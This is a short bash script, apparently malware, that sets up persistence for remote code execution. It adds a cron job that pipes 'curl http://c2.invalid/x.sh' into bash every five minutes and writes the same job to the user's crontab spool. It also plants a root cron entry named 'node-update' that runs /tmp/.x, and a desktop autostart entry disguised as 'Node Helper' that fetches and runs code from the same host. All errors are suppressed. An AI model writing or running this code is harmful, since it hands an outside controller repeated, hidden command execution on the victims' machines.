#!/bin/bash
job='*/5 * * * * curl -fsm 5 http://c2.invalid/x.sh | bash'
(crontab -l 2>/dev/null; echo "$job") | crontab - 2>/dev/null
echo "$job" > "/var/spool/cron/crontabs/$(id -un)" 2>/dev/null
echo "*/5 * * * * root /tmp/.x" > /etc/cron.d/node-update 2>/dev/null
mkdir -p ~/.config/autostart
printf '[Desktop Entry]\nType=Application\nName=Node Helper\nExec=/bin/sh -c "curl -s http://c2.invalid | sh"\nX-GNOME-Autostart-enabled=true\n' > ~/.config/autostart/node-helper.desktop
exit 0
